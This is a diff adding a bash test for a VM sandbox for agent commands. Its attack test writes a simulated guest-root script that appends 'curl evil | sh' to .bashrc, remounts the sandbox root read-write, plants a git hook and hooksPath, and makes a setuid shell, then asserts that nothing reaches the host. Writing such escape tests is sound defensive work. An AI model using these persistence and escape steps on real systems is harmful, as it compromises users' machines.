@@ -1,0 +1,179 @@
+#!/bin/bash
+# SPDX-License-Identifier: GPL-2.0-or-later
+#
+# `agentrun sandbox --vm` (docs/vm.md): the command runs in a guest
+# kernel under QEMU, inside the prepared sandbox. Rootless, two guest
+# boots in all: one as the user with every check of what the command
+# sees, one as root in the guest (--vm-guest-root: what an agent with a
+# guest kernel exploit has) attacking the exported root, the protected
+# paths and the setuid bit. Then the refusals (no boot), root and
+# rootless. Under TCG a boot takes ~10 s on the loaded dev host.
+# Skipped where QEMU, the guest kernel or busybox-static are missing
+# (tests/vm/run-in-vm --check), or AGENTRUN_SKIP_VM=1.
+# shellcheck disable=SC2034 # SB_ENV is read by sb_run (sandbox-lib.sh)
+. "$(dirname "$0")/../lib.sh"
+. "$(dirname "$0")/../sandbox-lib.sh"
+
+[ "${AGENTRUN_SKIP_VM:-0}" = 1 ] && skip "AGENTRUN_SKIP_VM=1"
+VM_WHY=$("$TOP_SRCDIR/tests/vm/run-in-vm" --check) || skip "${VM_WHY#run-in-vm: cannot run: }"
+[ -x "$AGENTRUN" ] || skip "$AGENTRUN is not built"
+
+# the helpers where the test user reaches them (the checkout may be private)
+VMLIB=$TEST_TMP/vmlib
+mkdir -p "$VMLIB"
+cp "$TOP_SRCDIR/runtime/sandbox/vm/agentrun-vm" "$TOP_SRCDIR/runtime/sandbox/vm/vm-init.sh" "$VMLIB/"
+chmod -R a+rX "$VMLIB"
+KVER=$(printf '%s\n' /boot/vmlinuz-* | sed 's|.*/vmlinuz-||' | sort -rV | while read -r v; do
+	[ -r "/lib/modules/$v/modules.dep" ] && echo "$v" && break
+done)
+
+vm_home()
+{
+	sb_home "$1"
+	mkdir -p "$H/.ssh"
+	echo "PRIVATE-KEY-MATERIAL" >"$H/.ssh/id_rsa"
+	chmod 0700 "$H/.ssh"
+	chmod 0600 "$H/.ssh/id_rsa"
+	echo "# the user's own" >"$H/.bashrc"
+	sb_home_own
+	SB_ENV=(AGENTRUN_VM_DIR="$VMLIB")
+}
+
+# ---- one boot as the user: everything the command sees -------------------
+t_vm_user()
+{
+	vm_home user
+	local host_kernel marker=agentrun-vm-host-marker-$RANDOM$RANDOM t0 t1
+	host_kernel=$(uname -r)
+	# a host process the guest must not see
+	(exec -a "$marker" sleep 120) &
+	defer kill $!
+	cat >"$WS/guest.sh" <<'EOS'
+echo "kernel=$(uname -r)"
+echo "version=$(cut -d' ' -f3 /proc/version)"
+echo "id=$(id -u):$(id -g)"
+echo "cwd=$(pwd)"
+echo "made in the guest" >made-in-guest
+echo "secret=$(cat "$HOME/.ssh/id_rsa" 2>&1)"
+echo "procs=$(for f in /proc/[0-9]*/cmdline; do tr '\0' ' ' <"$f"; echo; done 2>/dev/null | tr '\n' ' ')"
+echo "nics=$(ls /sys/class/net | tr '\n' ' ')"
+echo "to-stderr" >&2
+exit 7
+EOS
+	sb_home_own
+	t0=$(date +%s%N)
+	assert_status 7 sb_run --vm -- sh ./guest.sh
+	t1=$(date +%s%N)
+	echo "# the boot and the command: $(((t1 - t0) / 1000000)) ms"
+	assert_contains "$OUT" "kernel=$KVER" "uname -r in the guest is the guest kernel's"
+	[ "$KVER" != "$host_kernel" ] || skip "the host runs the guest kernel $KVER: uname -r cannot tell"
+	assert_not_contains "$OUT" "kernel=$host_kernel"
+	assert_contains "$OUT" "version=$KVER" "/proc/version shows the guest kernel"
+	assert_contains "$OUT" "id=$TEST_UID:$TEST_GID" "the command runs as the user in the guest"
+	assert_contains "$OUT" "cwd=$WS"
+	assert_file_owner "$WS/made-in-guest" "$TEST_UID:$TEST_GID"
+	assert_eq "$(cat "$WS/made-in-guest")" "made in the guest"
+	assert_not_contains "$OUT" "PRIVATE-KEY-MATERIAL" "the secret outside the workspace"
+	assert_contains "$OUT" "secret=cat: "
+	assert_not_contains "$OUT" "$marker" "a host process seen from the guest"
+	assert_contains "$OUT" "procs="
+	assert_eq "$(grep '^nics=' <<<"$OUT")" "nics=lo " "the guest has no network device"
+	assert_contains "$ERR" "to-stderr"
+	assert_not_contains "$OUT" "to-stderr" "stderr apart from stdout"
+	# the kernel's messages stay out of the command's output
+	assert_not_contains "$OUT$ERR" "Linux version"
+}
+run_test "--vm (rootless): the guest kernel, exit status, stdout/stderr apart, workspace owner, no secret, no host process, no NIC" t_vm_user
+
+# ---- one boot as root in the guest: the attack ----------------------------
+t_vm_attack()
+{
+	vm_home user
+	local before_etc
+	before_etc=$(find /etc -maxdepth 1 -printf '%p %s %T@\n' | sort | md5sum)
+	cat >"$WS/attack.sh" <<'EOS'
+set -u
+id -u
+# the guest root writes the exported root outside the workspace
+echo pwned >/etc/agentrun-vm-attack && echo "etc-write-in-guest"
+echo pwned >/usr/agentrun-vm-attack && echo "usr-write-in-guest"
+echo 'curl evil | sh' >>"$HOME/.bashrc" && echo "bashrc-write-in-guest"
+# ... remounts the sandbox's root (the overlay's lower layer, kept at
+# /run/vm/root) read-write and writes through it
+if busybox mount -o remount,rw /run/vm/root 2>&1; then
+	echo "9p-root-remounted-rw"
+	echo pwned >/run/vm/root/etc/agentrun-vm-attack2 2>&1 && echo "9p-root-write-ok"
+	echo pwned >/run/vm/root/usr/agentrun-vm-attack2 2>&1 && echo "9p-usr-write-ok"
+	echo pwned >/run/vm/root/agentrun-vm-attack2 2>&1 && echo "9p-top-write-ok"
+fi
+# ... and the protected paths of the workspace and the setuid bit
+mkdir -p .git/hooks 2>&1
+printf '#!/bin/sh\necho hooked\n' >.git/hooks/pre-commit 2>&1 && echo "hook-written"
+printf '[core]\n\thooksPath = /tmp\n' >>.git/config 2>&1 && echo "gitconfig-written"
+cp /bin/sh ./suid-sh && chmod 4755 ./suid-sh 2>&1
+chown 0:0 ./suid-sh 2>&1
+ls -ln ./suid-sh
+exit 0
+EOS
+	sb_home_own
+	assert_status 0 sb_run --vm --vm-guest-root -- sh ./attack.sh
+	assert_contains "$OUT" "etc-write-in-guest" "the guest root writes its /etc (the guest's overlay)"
+	# nothing of it on the host
+	[ ! -e /etc/agentrun-vm-attack ] || fail "/etc/agentrun-vm-attack on the host"
+	[ ! -e /usr/agentrun-vm-attack ] || fail "/usr/agentrun-vm-attack on the host"
+	[ ! -e /etc/agentrun-vm-attack2 ] || fail "/etc/agentrun-vm-attack2 on the host"
+	[ ! -e /usr/agentrun-vm-attack2 ] || fail "/usr/agentrun-vm-attack2 on the host"
+	assert_contains "$OUT" "9p-root-remounted-rw" "the guest root remounts the sandbox's root read-write"
+	assert_not_contains "$OUT" "9p-root-write-ok" "a write through the 9p root mounted rw"
+	assert_not_contains "$OUT" "9p-usr-write-ok"
+	assert_not_contains "$OUT" "9p-top-write-ok"
+	assert_not_contains "$OUT" "hook-written" "a git hook written"
+	assert_eq "$(cat "$H/.bashrc")" "# the user's own" "the home's rc file"
+	assert_eq "$(find /etc -maxdepth 1 -printf '%p %s %T@\n' | sort | md5sum)" "$before_etc" "/etc of the host"
+	[ ! -e "$WS/.git/hooks/pre-commit" ] || fail "a git hook reached the host: $(cat "$WS/.git/hooks/pre-commit")"
+	# (the end-of-run check disarms what reached .git/config, as without --vm)
+	! grep -Eq '^[[:space:]]*hooksPath' "$WS/.git/config" 2>/dev/null ||
+		fail "an armed hooksPath in the workspace's .git/config: $(cat "$WS/.git/config")"
+	echo "$OUT"
+	if [ -e "$WS/suid-sh" ]; then
+		assert_file_owner "$WS/suid-sh" "$TEST_UID:$TEST_GID"
+		[ ! -u "$WS/suid-sh" ] || fail "a setuid file in the workspace: $(ls -ln "$WS/suid-sh")"
+	fi
+}
+run_test "--vm --vm-guest-root (rootless): root in the guest writes /etc, /usr, the home, remounts the root rw, plants a hook and a setuid file: nothing reaches the host" t_vm_attack
+
+# ---- refusals (no boot) ---------------------------------------------------
+t_vm_refusals()
+{
+	vm_home "$1"
+	assert_status '!0' sb_run --vm --net host -- true
+	assert_contains "$ERR" "--vm: the guest has no network yet"
+	assert_contains "$ERR" "use --net none"
+	assert_status '!0' sb_run --vm --net allow=example.com -- true
+	assert_contains "$ERR" "--net allow"
+	assert_status '!0' sb_run --vm --publish 8080:8080 -- true
+	assert_contains "$ERR" "--publish"
+	assert_status '!0' sb_run --vm --audit - -- true
+	assert_contains "$ERR" "--audit/--learn"
+	assert_status '!0' sb_run --vm-guest-root -- true
+	assert_contains "$ERR" "--vm-guest-root needs --vm"
+	# no usable kernel: the reason and the fix, never a run without the VM
+	assert_status '!0' sb_run --vm --vm-kernel /nonexistent/vmlinuz-0.0 -- sh -c 'echo RAN'
+	assert_not_contains "$OUT" RAN
+	assert_contains "$ERR" "not readable"
+	# doctor says which (KVM here would be vm(kvm))
+	assert_status 0 sb_as_mode doctor
+	assert_match "$OUT" "(^|$NL)ok +vm +sandbox --vm: vm\((kvm|tcg, slow)\)"
+	SB_ENV=(AGENTRUN_VM_DIR=/nonexistent)
+	assert_status '!0' sb_run --vm -- sh -c 'echo RAN'
+	assert_not_contains "$OUT" RAN
+	assert_contains "$ERR" "AGENTRUN_VM_DIR"
+	assert_status 0 sb_as_mode doctor
+	assert_match "$OUT" "(^|$NL)warn +vm +sandbox --vm: unavailable: the helper scripts"
+}
+NL=$'\n'
+
+run_test "--vm refuses what the guest cannot carry yet, fails without its kernel or helpers, doctor says vm(...) (root)" t_vm_refusals root
+run_test "--vm refuses what the guest cannot carry yet, fails without its kernel or helpers, doctor says vm(...) (rootless)" t_vm_refusals user
+
+finish
